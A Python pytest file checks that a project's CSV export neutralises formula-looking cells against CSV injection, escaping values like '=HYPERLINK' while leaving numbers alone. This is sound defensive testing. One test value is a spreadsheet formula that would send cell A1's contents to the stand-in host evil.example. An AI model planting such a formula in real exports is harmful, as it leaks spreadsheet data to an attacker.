"""CSV exports neutralise formula-looking cells (OWASP's advice for CSV injection): a question such as
`=HYPERLINK(...)` is written as text, numbers stay numbers."""
from __future__ import annotations

import csv
import io

import pytest

from rag.spreadsheet import csv_text, safe_cell


@pytest.mark.parametrize("value, expected", [
    ('=HYPERLINK("http://evil.example/?"&A1,"x")', '\'=HYPERLINK("http://evil.example/?"&A1,"x")'),
    ("+1+2", "'+1+2"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    ("plain question?", "plain question?"), ("a=b", "a=b"), ("", ""),
    (-0.5, -0.5), (3, 3), (None, None), (True, True),
])
def test_formula_cells_become_text_and_numbers_stay_numbers(value, expected):
    assert safe_cell(value) == expected


def test_the_evaluation_export_writes_a_formula_question_as_text():
    from rag.eval.results_store import EvalRecord, export_csv
    from rag.eval.scoring import CaseResult

    case = CaseResult(id="q1", expected_route="answer", route="answer", question='=HYPERLINK("http://x","y")')
    record = EvalRecord.from_results([case], set_name="s", label="A")
    rows = list(csv.reader(io.StringIO(export_csv([record]))))
    assert rows[1][2].startswith("'=HYPERLINK")


def test_csv_text_quotes_every_row():
    assert list(csv.reader(io.StringIO(csv_text([["=1", 2]])))) == [["'=1", "2"]]
